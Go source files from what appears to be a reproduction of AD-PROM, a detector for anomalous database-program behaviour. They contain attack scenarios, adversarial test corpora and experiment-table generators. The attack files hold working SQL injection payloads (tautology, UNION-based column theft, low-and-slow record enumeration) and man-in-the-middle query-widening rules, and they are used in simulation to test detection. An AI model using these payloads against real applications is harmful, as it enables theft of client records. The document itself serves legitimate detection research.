				// makes the modest path name-identical to the rich path.
				return InsertStmts(p, "interestReport", 4, 1,
					ir.LibCall{Name: "printf", Args: []ir.Expr{ir.S("  %s holds %s\n"),
						ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1))}},
				)
			},
			Cases: []dataset.TestCase{{Name: "interest", Input: []string{"6"}}},
		},
		{
			ID:   2,
			Name: "new-call-other-function",
			Description: "source access: insert calls into help() that fetch and print " +
				"query results from a function that never touches the database",
			Mutate: func(p *ir.Program) (*ir.Program, error) {
				return InsertStmts(p, "help", 0, 1,
					ir.LibCall{Dst: "conn2", Name: "mysql_real_connect"},
					ir.LibCall{Dst: "st", Name: "mysql_query", Args: []ir.Expr{ir.V("conn2"), ir.S("SELECT * FROM clients")}},
					ir.LibCall{Dst: "res2", Name: "mysql_store_result", Args: []ir.Expr{ir.V("conn2")}},
					ir.LibCall{Dst: "row2", Name: "mysql_fetch_row", Args: []ir.Expr{ir.V("res2")}},
					ir.LibCall{Name: "printf", Args: []ir.Expr{ir.S("%s\n"), ir.At(ir.V("row2"), ir.I(1))}},
				)
			},
			Cases: []dataset.TestCase{{Name: "help-hit", Input: []string{"9"}}},
		},
		{
			ID:   3,
			Name: "reuse-existing-print",
			Description: "source access: keep the call sequence intact but change the " +
				"withdrawal confirmation's argument to print the account balance (TD)",
			Mutate: func(p *ir.Program) (*ir.Program, error) {
				return ReplaceArgs(p, "withdraw", 3, 1,
					ir.S("withdrew %s\n"), ir.At(ir.V("row"), ir.I(0)))
			},
		},
		{
			ID:   4,
			Name: "binary-patch",
			Description: "binary access: a Dyninst-style patch in the statement loop " +
				"dumps every transaction row to a file",
			Mutate: func(p *ir.Program) (*ir.Program, error) {
				return InsertStmts(p, "statement", 2, 1,
					ir.LibCall{Dst: "dump", Name: "fopen", Args: []ir.Expr{ir.S("dump.bin"), ir.S("a")}},
					ir.LibCall{Name: "fprintf", Args: []ir.Expr{ir.V("dump"), ir.S("%s,%s\n"),
						ir.At(ir.V("row"), ir.I(0)), ir.At(ir.V("row"), ir.I(1))}},
					ir.LibCall{Name: "fclose", Args: []ir.Expr{ir.V("dump")}},
				)
			},
		},
		{
			ID:   5,
			Name: "sql-injection",
			Description: "no access: tautology injection through the vulnerable account " +
				"lookup retrieves every client record (Figure 2)",
			Cases: []dataset.TestCase{
				{Name: "tautology", Input: []string{"1", TautologyPayload}},
			},
		},
	}
}

// AppBMITM is the attack 3.2 scenario: a man-in-the-middle on the
// unencrypted connection widens the statement query in transit. The program
// is byte-for-byte unchanged; only the wire is hostile.
func AppBMITM() Attack {
	return Attack{
		ID:   6,
		Name: "mitm-query-rewrite",
		Description: "network access: rewrite 'WHERE client_id =' to '>=' in transit, " +
			"inflating the statement result set",
		Cases: []dataset.TestCase{
			{Name: "statement-mitm", Input: []string{"5", "101"}},
		},
		Setup: func(_ *interp.Interp, w *interp.World) {
			w.Rewriter = MITMRewriter("WHERE client_id =", "WHERE client_id >=")
		},
	}
}
