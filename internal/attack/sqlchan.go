package attack

import (
	"fmt"

	"adprom/internal/dataset"
	"adprom/internal/interp"
)

// Adversaries engineered to evade call-sequence (HMM) detection — each keeps
// the library-call trace inside the trained distribution and leaks through
// the query channel instead. They are the SQL-behaviour channel's raison
// d'être: the golden corpus proves the HMM alone misses all three while the
// fused two-channel judge catches them.

// LowAndSlowExfil is a patient injection campaign through the Figure 2
// lookup: each run steals exactly one other client's record with the payload
//
//	1' OR id='1NN
//
// (the vulnerable code wraps it as WHERE id='1' OR id='1NN'). Every run
// returns a single row — the same result cardinality and the same
// fetch/print trace as a legitimate lookup — so call-sequence detection sees
// nothing. The query *signature* is novel (two quoted literals where normal
// lookups have one), which is what the SQL channel's signature bigram
// catches. runs bounds the campaign length (clamped to the 25 seeded
// accounts).
func LowAndSlowExfil(runs int) Attack {
	if runs < 1 || runs > 25 {
		runs = 25
	}
	cases := make([]dataset.TestCase, 0, runs)
	for k := 1; k <= runs; k++ {
		cases = append(cases, dataset.TestCase{
			Name:  fmt.Sprintf("low-and-slow-%02d", k),
			Input: []string{"1", fmt.Sprintf("1' OR id='%d", 100+k)},
		})
	}
	return Attack{
		ID:   7,
		Name: "low-and-slow-exfil",
		Description: "no access: a patient injection campaign steals one client record " +
			"per run (1' OR id='1NN), keeping per-run cardinality and call trace " +
			"identical to a legitimate lookup — only the query signature is novel",
		Cases: cases,
	}
}

// CardinalityMimicry is the call-plausible mimicry attack: a man-in-the-middle
// rewrites the interest report's LIMIT 12 to LIMIT 9999 in transit. The
// program is unchanged, the executed query's *signature* is unchanged too
// (literals normalise to '?'), and the extra rows flow through the report's
// own legitimate fetch/print loop — transitions the HMM scored as normal in
// training. The only observable is the inflated result cardinality, which is
// exactly the feature the SQL channel's per-signature cardinality
// distribution models. The HMM and the signature bigram are both blind to it.
func CardinalityMimicry() Attack {
	return Attack{
		ID:   8,
		Name: "cardinality-mimicry",
		Description: "network access: rewrite 'LIMIT 12' to 'LIMIT 9999' in transit — " +
			"identical query signature, identical call vocabulary, leaked rows visible " +
			"only as an out-of-distribution result cardinality",
		Cases: []dataset.TestCase{{Name: "interest-mimic", Input: []string{"6"}}},
		Setup: func(_ *interp.Interp, w *interp.World) {
			w.Rewriter = MITMRewriter("LIMIT 12", "LIMIT 9999")
		},
	}
}

// UnionExfilPayload grafts a UNION arm onto the vulnerable lookup, pulling a
// targeted client's full record (id, name, balance) while the tautology-free
// first arm matches nothing:
//
//	SELECT * FROM clients WHERE id='1' UNION SELECT id, name, balance
//	    FROM clients WHERE id='125'
//
// The union arm returns exactly one row, so the run's trace and cardinality
// are indistinguishable from a legitimate lookup.
const UnionExfilPayload = "1' UNION SELECT id, name, balance FROM clients WHERE id='125"

// UnionExfil is the UNION-based exfiltration through the injectable lookup:
// one row out, one fetch/print round — trace-identical to a normal lookup and
// invisible to the HMM. The SQL channel sees a novel signature whose
// projection touches the sensitive balance/name columns, so the alert
// upgrades to DL.
func UnionExfil() Attack {
	return Attack{
		ID:   9,
		Name: "union-exfil",
		Description: "no access: UNION injection through the vulnerable lookup steals a " +
			"targeted client's record in a single plausible-cardinality row — novel " +
			"signature projecting sensitive columns, trace identical to a lookup",
		Cases: []dataset.TestCase{{Name: "union-steal", Input: []string{"1", UnionExfilPayload}}},
	}
}

// SQLChannelAttacks bundles the three HMM-evading adversaries the
// two-channel corpus evaluates.
func SQLChannelAttacks() []Attack {
	return []Attack{LowAndSlowExfil(5), CardinalityMimicry(), UnionExfil()}
}
