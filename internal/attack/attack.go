// Package attack implements the adversary model of §III and the concrete
// attacks of the evaluation (§V-C, Table V), plus the synthetic anomalous
// sequence generators A-S1/A-S2/A-S3 of the scalability experiment (§V-D).
//
// Program attacks are expressed as mutators over deep-cloned IR — the
// reproduction's stand-in for editing source (case 1), patching binaries
// with Dyninst (case 2), or exploiting vulnerabilities (case 3). Each
// mutator leaves the original program untouched.
package attack

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"

	"adprom/internal/dataset"
	"adprom/internal/dbclient"
	"adprom/internal/interp"
	"adprom/internal/ir"
)

// ErrTarget is returned when a mutator's target location does not exist.
var ErrTarget = errors.New("attack: target not found")

// TautologyPayload is the paper's injection input (1' OR '1'='1): inside the
// vulnerable WHERE id='…' it turns the predicate into a tautology.
const TautologyPayload = "1' OR '1'='1"

// Attack is one runnable attack scenario against an application.
type Attack struct {
	// ID is the paper's attack number (1–5 in §V-C).
	ID int
	// Name is a short identifier for tables and logs.
	Name string
	// Description says what the attacker does.
	Description string
	// Mutate transforms the program (nil = the attack leaves code intact,
	// e.g. SQL injection and MITM).
	Mutate func(*ir.Program) (*ir.Program, error)
	// Cases are the test inputs to drive the attacked program with (nil =
	// use the app's own cases).
	Cases []dataset.TestCase
	// Setup configures run-time interference (the MITM rewriter).
	Setup func(*interp.Interp, *interp.World)
}

// Apply returns the attacked program (the original when Mutate is nil).
func (a *Attack) Apply(prog *ir.Program) (*ir.Program, error) {
	if a.Mutate == nil {
		return prog, nil
	}
	return a.Mutate(prog)
}

// InsertStmts clones prog and inserts stmts into fn's block at statement
// position pos (clamped to the block's end).
func InsertStmts(prog *ir.Program, fn string, block, pos int, stmts ...ir.Stmt) (*ir.Program, error) {
	cp := ir.Clone(prog)
	f := cp.Func(fn)
	if f == nil || block < 0 || block >= len(f.Blocks) {
		return nil, fmt.Errorf("%w: %s block %d", ErrTarget, fn, block)
	}
	blk := f.Blocks[block]
	if pos < 0 || pos > len(blk.Stmts) {
		pos = len(blk.Stmts)
	}
	out := make([]ir.Stmt, 0, len(blk.Stmts)+len(stmts))
	out = append(out, blk.Stmts[:pos]...)
	out = append(out, stmts...)
	out = append(out, blk.Stmts[pos:]...)
	blk.Stmts = out
	if err := ir.Validate(cp); err != nil {
		return nil, fmt.Errorf("attack: mutation broke program: %w", err)
	}
	return cp, nil
}

// ReplaceArgs clones prog and replaces the arguments of the library call at
// (fn, block, stmt) — the paper's attack 3, which reuses an existing output
// command by pointing its arguments at targeted data.
func ReplaceArgs(prog *ir.Program, fn string, block, stmt int, args ...ir.Expr) (*ir.Program, error) {
	cp := ir.Clone(prog)
	f := cp.Func(fn)
	if f == nil || block < 0 || block >= len(f.Blocks) {
		return nil, fmt.Errorf("%w: %s block %d", ErrTarget, fn, block)
	}
	blk := f.Blocks[block]
	if stmt < 0 || stmt >= len(blk.Stmts) {
		return nil, fmt.Errorf("%w: %s b%d stmt %d", ErrTarget, fn, block, stmt)
	}
	lc, ok := blk.Stmts[stmt].(ir.LibCall)
	if !ok {
		return nil, fmt.Errorf("%w: %s b%d stmt %d is not a library call", ErrTarget, fn, block, stmt)
	}
	lc.Args = args
	blk.Stmts[stmt] = lc
	return cp, nil
}

// MITMRewriter widens queries in transit (attack 3.2): every occurrence of
// `from` in a query becomes `to`.
func MITMRewriter(from, to string) dbclient.Rewriter {
	return func(q string) string { return strings.ReplaceAll(q, from, to) }
}

// --- synthetic anomalous sequences (§V-D) --------------------------------

// AS1 replaces the last k calls of a normal sequence with random calls drawn
// from the legitimate vocabulary (the paper uses k = 5).
func AS1(seq []string, legit []string, k int, seed int64) []string {
	out := append([]string(nil), seq...)
	if len(legit) == 0 || len(out) == 0 {
		return out
	}
	if k > len(out) {
		k = len(out)
	}
	r := rand.New(rand.NewSource(seed))
	for i := len(out) - k; i < len(out); i++ {
		out[i] = legit[r.Intn(len(legit))]
	}
	return out
}

// AS2 injects library calls that do not belong to the legitimate vocabulary
// at random positions.
func AS2(seq []string, count int, seed int64) []string {
	foreign := []string{"curl_easy_perform", "dlopen", "ptrace", "execve", "sendto"}
	r := rand.New(rand.NewSource(seed))
	out := append([]string(nil), seq...)
	for i := 0; i < count; i++ {
		pos := 0
		if len(out) > 0 {
			pos = r.Intn(len(out) + 1)
		}
		call := foreign[r.Intn(len(foreign))]
		out = append(out[:pos], append([]string{call}, out[pos:]...)...)
	}
	return out
}

// AS3 increases the frequency of legitimate calls by repeating random
// positions in place — the trace shape of a selectivity or injection attack,
// where fetch/print pairs multiply.
func AS3(seq []string, extra int, seed int64) []string {
	if len(seq) == 0 {
		return nil
	}
	r := rand.New(rand.NewSource(seed))
	out := append([]string(nil), seq...)
	for i := 0; i < extra; i++ {
		pos := r.Intn(len(out))
		out = append(out[:pos], append([]string{out[pos]}, out[pos:]...)...)
	}
	return out
}
