package experiments

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var updateCorpus = flag.Bool("update", false, "regenerate testdata/sqlchan_corpus.json from a live run")

const corpusFixture = "testdata/sqlchan_corpus.json"

// TestCorpusGolden is the channel-coverage drift test: the adversarial corpus
// must keep producing exactly the per-channel verdict matrix pinned in
// testdata. Any change to the HMM, the SQL channel, fusion, or the attack
// generators that shifts who-sees-what shows up here as a diff.
func TestCorpusGolden(t *testing.T) {
	got, rep, err := Corpus(quick)
	if err != nil {
		t.Fatalf("Corpus: %v", err)
	}
	if *updateCorpus {
		blob, err := json.MarshalIndent(got, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Dir(corpusFixture), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(corpusFixture, append(blob, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("updated %s:\n%s", corpusFixture, rep)
		return
	}

	blob, err := os.ReadFile(corpusFixture)
	if err != nil {
		t.Fatalf("read fixture (run with -update to regenerate): %v", err)
	}
	var want []CorpusOutcome
	if err := json.Unmarshal(blob, &want); err != nil {
		t.Fatalf("fixture: %v", err)
	}
	if len(got) != len(want) {
		t.Fatalf("corpus has %d scenarios, fixture has %d", len(got), len(want))
	}
	for i, w := range want {
		if got[i] != w {
			t.Errorf("scenario %s: got %+v, want %+v", w.Scenario, got[i], w)
		}
	}
}

// TestCorpusChannelCoverage encodes the corpus's reason to exist as explicit
// claims, independent of the golden fixture:
//
//   - the healthy suite raises no alert on any channel (no false positives),
//   - every classic Table V attack is caught by the HMM alone,
//   - every HMM-evading adversary is missed by the HMM alone yet caught by
//     the fused two-channel judge via the SQL channel,
//   - only union-exfil is upgraded to a data leak: it projects a sensitive
//     column (name) outside the trained access set. low-and-slow hides behind
//     the lookup's own SELECT * projection and cardinality-mimicry behind a
//     fully known signature, so the channel flags them anomalous but cannot
//     attribute a column-level leak — a documented limitation, not a bug.
func TestCorpusChannelCoverage(t *testing.T) {
	got, _, err := Corpus(quick)
	if err != nil {
		t.Fatalf("Corpus: %v", err)
	}
	byName := map[string]CorpusOutcome{}
	for _, o := range got {
		byName[o.Scenario] = o
	}

	healthy, ok := byName["healthy"]
	if !ok {
		t.Fatal("corpus missing healthy scenario")
	}
	if healthy.HMMOnly || healthy.SQL || healthy.Fused || healthy.DL {
		t.Errorf("healthy suite raised alerts: %+v", healthy)
	}

	for _, name := range []string{"insert-similar-print", "new-call-other-function",
		"reuse-existing-print", "binary-patch", "sql-injection"} {
		o, ok := byName[name]
		if !ok {
			t.Fatalf("corpus missing classic attack %s", name)
		}
		if !o.HMMOnly {
			t.Errorf("%s: classic attack not caught by HMM alone: %+v", name, o)
		}
		if !o.Fused {
			t.Errorf("%s: classic attack not caught by fused monitor: %+v", name, o)
		}
	}

	for _, name := range []string{"low-and-slow-exfil", "cardinality-mimicry", "union-exfil"} {
		o, ok := byName[name]
		if !ok {
			t.Fatalf("corpus missing adversary %s", name)
		}
		if o.HMMOnly {
			t.Errorf("%s: supposed HMM-evader was caught by the HMM alone: %+v", name, o)
		}
		if !o.SQL || !o.Fused {
			t.Errorf("%s: not caught via the SQL channel: %+v", name, o)
		}
	}
	if !byName["union-exfil"].DL {
		t.Errorf("union-exfil: sensitive projection not flagged as a data leak: %+v",
			byName["union-exfil"])
	}
	for _, name := range []string{"low-and-slow-exfil", "cardinality-mimicry"} {
		if byName[name].DL {
			t.Errorf("%s: projection stays inside the trained access set, should not be "+
				"DL-attributed: %+v", name, byName[name])
		}
	}
}
