package experiments

import (
	"fmt"

	"adprom/internal/attack"
	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/dataset"
	"adprom/internal/hmm"
	"adprom/internal/ir"
	"adprom/internal/metrics"
	"adprom/internal/profile"
)

// ConfusionRow is one application's row of Table VII.
type ConfusionRow struct {
	App       string
	Sequences int
	Matrix    metrics.Confusion
}

// Table7 regenerates Table VII: for each SIR-style application, the profile
// trained on 4/5 of the traces classifies the held-out normal windows plus
// synthetic anomalies of types A-S2 (foreign calls injected) and A-S3
// (legitimate call frequencies inflated) at the profile's own threshold.
func Table7(cfg Config) ([]ConfusionRow, *Report, error) {
	rep := &Report{ID: "table7", Title: "Confusion matrix of the programs' models (paper Table VII)"}
	rep.addf("%-6s %7s %5s %7s %4s %4s %6s %6s %8s   %s",
		"app", "#seq", "TP", "TN", "FP", "FN", "Rec", "Prec", "Acc", "paper acc")
	paperAcc := map[string]string{"app1": "0.9952", "app2": "0.9998", "app3": "0.9978", "app4": "0.9999"}

	var out []ConfusionRow
	for _, app := range sirAppsFor(cfg) {
		row, err := table7App(cfg, app)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: table7 %s: %w", app.Name, err)
		}
		out = append(out, row)
		m := row.Matrix
		rep.addf("%-6s %7d %5d %7d %4d %4d %6.2f %6.2f %8.4f   %s",
			row.App, row.Sequences, m.TP, m.TN, m.FP, m.FN,
			m.Recall(), m.Precision(), m.Accuracy(), paperAcc[app.Name])
	}
	return out, rep, nil
}

func table7App(cfg Config, app *dataset.App) (ConfusionRow, error) {
	row := ConfusionRow{App: app.Name}

	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		return row, err
	}
	// Hold out every 5th trace for validation.
	var train, val []collector.Trace
	for i, tr := range traces {
		if i%5 == 4 {
			val = append(val, tr)
		} else {
			train = append(train, tr)
		}
	}
	if len(val) == 0 {
		val = train
	}

	p, _, err := core.Train(app.Prog, train, profile.Options{
		Seed:            cfg.Seed,
		Train:           hmm.TrainOptions{MaxIters: cfg.trainIters()},
		MaxTrainWindows: cfg.maxWindows(),
		ClusterRatio:    cfg.clusterRatio(),
	})
	if err != nil {
		return row, err
	}

	var windows [][]string
	for _, tr := range val {
		windows = append(windows, tr.LabelWindows(p.WindowLen)...)
	}
	// Cap the scored validation set: scoring is O(N²) per window and the
	// bash-scale corpus yields ~100k windows.
	if cap := cfg.evalWindows(); len(windows) > cap {
		step := len(windows) / cap
		sampled := make([][]string, 0, cap)
		for i := 0; i < len(windows) && len(sampled) < cap; i += step {
			sampled = append(sampled, windows[i])
		}
		windows = sampled
	}
	normScores := make([]float64, 0, len(windows))
	for _, w := range windows {
		normScores = append(normScores, p.Score(w))
	}

	// Anomalies: paper-scale counts (≈90–150 per app), half A-S2 and half
	// A-S3, derived from validation windows.
	legit := ir.CallNames(app.Prog)
	_ = legit
	nAnom := 100
	if nAnom > len(windows) {
		nAnom = len(windows)
	}
	var anomScores []float64
	for i := 0; i < nAnom; i++ {
		w := windows[i*len(windows)/nAnom]
		var a []string
		if i%2 == 0 {
			a = attack.AS2(w, 3, cfg.Seed+int64(i))
		} else {
			a = attack.AS3(w, 8, cfg.Seed+int64(i))
		}
		anomScores = append(anomScores, p.Score(a))
	}

	row.Matrix = metrics.Count(normScores, anomScores, p.Threshold)
	row.Sequences = row.Matrix.Total()
	return row, nil
}
