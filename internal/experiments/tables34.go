package experiments

import (
	"fmt"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/ir"
)

// DatasetStats summarises one application corpus.
type DatasetStats struct {
	App       string
	DBMS      string
	States    int // library-call sites ("#states" in Tables III/IV)
	TestCases int
	Sequences int     // 15-length windows over all traces
	Coverage  float64 // fraction of call sites exercised by the corpus
}

// Table3 regenerates Table III: statistics of the CA-dataset.
func Table3() ([]DatasetStats, *Report, error) {
	return datasetStats("table3", "Statistics about the CA-dataset (paper Table III)",
		dataset.CAApps(),
		map[string][3]int{ // paper's #states, #test cases, #sequences
			"apph": {59, 63, 3810},
			"appb": {139, 73, 10286},
			"apps": {229, 36, 4053},
		})
}

// Table4 regenerates Table IV: statistics of the SIR-style dataset. The
// paper reports branch/line coverage of the real binaries; the analogue here
// is call-site coverage of the generated programs.
func Table4() ([]DatasetStats, *Report, error) {
	return datasetStats("table4", "Statistics about the SIR-dataset (paper Table IV)",
		dataset.SIRApps(),
		map[string][3]int{ // paper's (#states n/a — shown as 0), test cases, traces
			"app1": {0, 809, 34770},
			"app2": {0, 214, 69866},
			"app3": {0, 370, 14514},
			"app4": {0, 1061, 6628647},
		})
}

func datasetStats(id, title string, apps []*dataset.App, paper map[string][3]int) ([]DatasetStats, *Report, error) {
	rep := &Report{ID: id, Title: title}
	rep.addf("%-6s %-11s %8s %11s %11s %10s   %s", "app", "dbms", "#states", "#testcases", "#sequences", "coverage", "paper (states/cases/seqs)")
	var out []DatasetStats
	for _, app := range apps {
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: %s: %w", app.Name, err)
		}
		st := DatasetStats{
			App:       app.Name,
			DBMS:      app.DBMS,
			States:    app.NumStates(),
			TestCases: len(app.TestCases),
		}
		seen := map[ir.CallSite]bool{}
		for _, tr := range traces {
			st.Sequences += len(tr.LabelWindows(15))
			for _, c := range tr {
				seen[ir.CallSite{Func: c.Caller, Block: c.Block}] = true
			}
		}
		// Coverage: distinct (function, block) pairs with calls exercised,
		// over all blocks containing calls.
		total := map[ir.CallSite]bool{}
		for _, sc := range ir.ProgramCallSites(app.Prog) {
			total[ir.CallSite{Func: sc.Site.Func, Block: sc.Site.Block}] = true
		}
		if len(total) > 0 {
			st.Coverage = float64(len(seen)) / float64(len(total))
		}
		p := paper[app.Name]
		rep.addf("%-6s %-11s %8d %11d %11d %9.1f%%   %d/%d/%d",
			st.App, st.DBMS, st.States, st.TestCases, st.Sequences, 100*st.Coverage, p[0], p[1], p[2])
		out = append(out, st)
	}
	return out, rep, nil
}
