package experiments

import (
	"fmt"
	"time"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/interp"
)

// CollectorTiming is one row of Table VI.
type CollectorTiming struct {
	Case      string
	Ltrace    time.Duration
	Collector time.Duration
	// Decrease is the overhead reduction (ltrace−collector)/ltrace.
	Decrease float64
}

// Table6 regenerates Table VI: the cost of AD-PROM's Calls Collector versus
// ltrace-style collection, on two print-heavy test cases and two query-heavy
// ones. Each timing is the wall time of the instrumented run, averaged over
// repetitions; the ltrace mode renders every argument and resolves callers
// through the simulated symbol table (see internal/collector).
func Table6(cfg Config) ([]CollectorTiming, *Report, error) {
	// Cases 1–2 are print-heavy (full inventory walk, interest report);
	// cases 3–4 execute several queries with little printing (transfer,
	// restock).
	apps := dataset.CAApps()
	appB, appS := apps[1], apps[2]
	cases := []struct {
		name string
		app  *dataset.App
		tc   dataset.TestCase
	}{
		{"1 (print-heavy inventory)", appS, dataset.TestCase{Name: "inv", Input: []string{"3"}}},
		{"2 (print-heavy interest)", appB, dataset.TestCase{Name: "int", Input: []string{"6"}}},
		{"3 (query transfer)", appB, dataset.TestCase{Name: "xfer", Input: []string{"4", "105", "106", "50"}}},
		{"4 (query restock)", appS, dataset.TestCase{Name: "rst", Input: []string{"6", "12", "40"}}},
	}

	reps := 30
	if cfg.Quick {
		reps = 8
	}

	rep := &Report{ID: "table6", Title: "Calls Collector vs ltrace (paper Table VI)"}
	rep.addf("%-28s %12s %12s %10s   %s", "test case", "ltrace", "collector", "decrease", "paper decrease")
	paper := []string{"97.30%", "94.19%", "61.63%", "60.04%"}

	var out []CollectorTiming
	for i, c := range cases {
		lt, err := timeCase(c.app, c.tc, collector.ModeLtrace, reps)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: table6 %s: %w", c.name, err)
		}
		ad, err := timeCase(c.app, c.tc, collector.ModeADPROM, reps)
		if err != nil {
			return nil, nil, fmt.Errorf("experiments: table6 %s: %w", c.name, err)
		}
		row := CollectorTiming{Case: c.name, Ltrace: lt, Collector: ad}
		if lt > 0 {
			row.Decrease = float64(lt-ad) / float64(lt)
		}
		out = append(out, row)
		rep.addf("%-28s %12v %12v %9.2f%%   %s", row.Case, row.Ltrace, row.Collector, 100*row.Decrease, paper[i])
	}
	var avg float64
	for _, r := range out {
		avg += r.Decrease
	}
	avg /= float64(len(out))
	rep.addf("average overhead decrease: %.2f%% (paper: 78.29%%)", 100*avg)
	return out, rep, nil
}

// timeCase measures the average wall time of the instrumented run with the
// given collector mode. The database is seeded once and IO state reset
// between repetitions, so the measurement covers execution plus collection —
// what the paper's Table VI times — rather than test-harness setup.
func timeCase(app *dataset.App, tc dataset.TestCase, mode collector.Mode, reps int) (time.Duration, error) {
	world := interp.NewWorld(app.FreshDB())
	run := func() error {
		world.ResetIO()
		ip := interp.New(app.Prog, world, interp.Options{CaptureArgs: mode == collector.ModeLtrace})
		col := collector.New(mode, nil)
		ip.AddHook(col.Hook())
		_, err := ip.Run(tc.Input...)
		return err
	}
	if err := run(); err != nil { // warm-up
		return 0, err
	}
	start := time.Now()
	for i := 0; i < reps; i++ {
		if err := run(); err != nil {
			return 0, err
		}
	}
	return time.Since(start) / time.Duration(reps), nil
}
