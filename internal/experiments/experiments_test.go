package experiments

import (
	"strings"
	"testing"

	"adprom/internal/detect"
)

var quick = Config{Quick: true, Seed: 1}

func TestTable3MatchesPaperStatistics(t *testing.T) {
	stats, rep, err := Table3()
	if err != nil {
		t.Fatalf("Table3: %v", err)
	}
	if len(stats) != 3 {
		t.Fatalf("stats = %d rows", len(stats))
	}
	wantCases := map[string]int{"apph": 63, "appb": 73, "apps": 36}
	for _, s := range stats {
		if s.TestCases != wantCases[s.App] {
			t.Errorf("%s: %d cases, want %d", s.App, s.TestCases, wantCases[s.App])
		}
		if s.Sequences == 0 || s.States == 0 {
			t.Errorf("%s: empty stats %+v", s.App, s)
		}
		if s.Coverage < 0.5 {
			t.Errorf("%s: coverage %.2f too low — test cases barely exercise the app", s.App, s.Coverage)
		}
	}
	if !strings.Contains(rep.String(), "CA-dataset") {
		t.Error("report missing title")
	}
}

func TestTable4SIRStatistics(t *testing.T) {
	if testing.Short() {
		t.Skip("app4 trace collection is slow")
	}
	stats, _, err := Table4()
	if err != nil {
		t.Fatalf("Table4: %v", err)
	}
	if len(stats) != 4 {
		t.Fatalf("stats = %d rows", len(stats))
	}
	// App4 is the bash-scale program: most call sites and sequences.
	if stats[3].States <= 900 {
		t.Errorf("app4 states = %d, want > 900", stats[3].States)
	}
	for _, s := range stats[:3] {
		if s.States > stats[3].States {
			t.Errorf("%s larger than app4", s.App)
		}
	}
}

// TestTable5ReproducesPaperVerdicts is the headline reproduction check:
// CMarkov misses attacks 1 and 3, detects 2, 4, 5; AD-PROM detects all five
// and connects each to its source query.
func TestTable5ReproducesPaperVerdicts(t *testing.T) {
	rows, rep, err := Table5(quick)
	if err != nil {
		t.Fatalf("Table5: %v", err)
	}
	if len(rows) != 5 {
		t.Fatalf("rows = %d", len(rows))
	}
	wantCMarkov := map[int]bool{1: false, 2: true, 3: false, 4: true, 5: true}
	for _, r := range rows {
		if !r.ADPROM {
			t.Errorf("attack %d: AD-PROM missed it", r.ID)
		}
		if !r.Connected {
			t.Errorf("attack %d: AD-PROM did not connect to source", r.ID)
		}
		if r.CMarkov != wantCMarkov[r.ID] {
			t.Errorf("attack %d: CMarkov detected=%v, paper says %v", r.ID, r.CMarkov, wantCMarkov[r.ID])
		}
	}
	if !strings.Contains(rep.String(), "CMarkov") {
		t.Error("report missing baseline")
	}
}

func TestTable6CollectorBeatsLtrace(t *testing.T) {
	rows, rep, err := Table6(quick)
	if err != nil {
		t.Fatalf("Table6: %v", err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.Decrease < 0.5 {
			t.Errorf("%s: overhead decrease %.1f%% — the collector should cut most of the "+
				"ltrace cost (paper: 60–97%%)", r.Case, 100*r.Decrease)
		}
		if r.Collector >= r.Ltrace {
			t.Errorf("%s: collector (%v) not faster than ltrace (%v)", r.Case, r.Collector, r.Ltrace)
		}
	}
	_ = rep
}

func TestFig10ADPROMBeatsRandHMM(t *testing.T) {
	if testing.Short() {
		t.Skip("cross-validated training is slow")
	}
	results, _, err := Fig10(quick)
	if err != nil {
		t.Fatalf("Fig10: %v", err)
	}
	if len(results) != 4 {
		t.Fatalf("results = %d apps", len(results))
	}
	for _, r := range results {
		// The paper's claim: AD-PROM's FN rate is at or below Rand-HMM's at
		// equal FP budgets. Averaged over the curve, it must win (individual
		// points may tie at 0).
		var ad, rd float64
		for i := range r.FPRates {
			ad += r.ADPROM[i].FNRate
			rd += r.RandHMM[i].FNRate
		}
		if ad > rd+1e-9 {
			t.Errorf("%s: AD-PROM mean FN %.4f worse than Rand-HMM %.4f", r.App, ad/5, rd/5)
		}
	}
}

func TestTable7HighAccuracy(t *testing.T) {
	if testing.Short() {
		t.Skip("training all four apps is slow")
	}
	rows, _, err := Table7(quick)
	if err != nil {
		t.Fatalf("Table7: %v", err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if acc := r.Matrix.Accuracy(); acc < 0.9 {
			t.Errorf("%s: accuracy %.4f below 0.9 (paper ≈ 0.995+)", r.App, acc)
		}
	}
}

func TestTable8AggregationDominates(t *testing.T) {
	rows, _, err := Table8(quick)
	if err != nil {
		t.Fatalf("Table8: %v", err)
	}
	if len(rows) != 4 {
		t.Fatalf("rows = %d", len(rows))
	}
	app4 := rows[3]
	// The paper's shape: aggregation is the dominant step and the largest
	// program costs the most.
	if app4.Aggregation < app4.BuildCFG || app4.Aggregation < app4.ProbEst {
		t.Errorf("app4 aggregation %v does not dominate (cfg %v, probest %v)",
			app4.Aggregation, app4.BuildCFG, app4.ProbEst)
	}
	for _, r := range rows[:3] {
		if r.Aggregation > app4.Aggregation {
			t.Errorf("%s aggregation %v exceeds app4's %v", r.App, r.Aggregation, app4.Aggregation)
		}
	}
}

func TestClusteringSpeedsUpTraining(t *testing.T) {
	if testing.Short() {
		t.Skip("trains the bash-scale model twice")
	}
	res, rep, err := Clustering(quick)
	if err != nil {
		t.Fatalf("Clustering: %v", err)
	}
	if res.StatesAfter >= res.StatesBefore {
		t.Errorf("states %d -> %d: no reduction", res.StatesBefore, res.StatesAfter)
	}
	if res.StatesBefore <= 900 {
		t.Errorf("bash-scale program has only %d states", res.StatesBefore)
	}
	if res.TimeReduction <= 0.3 {
		t.Errorf("training time reduction %.1f%% — paper reports ≈70%%", 100*res.TimeReduction)
	}
	if strings.Contains(rep.String(), "WARNING") {
		t.Errorf("report: %s", rep)
	}
}

// TestAttackFlagsAreInformative spot-checks that Table 5's AD-PROM outcomes
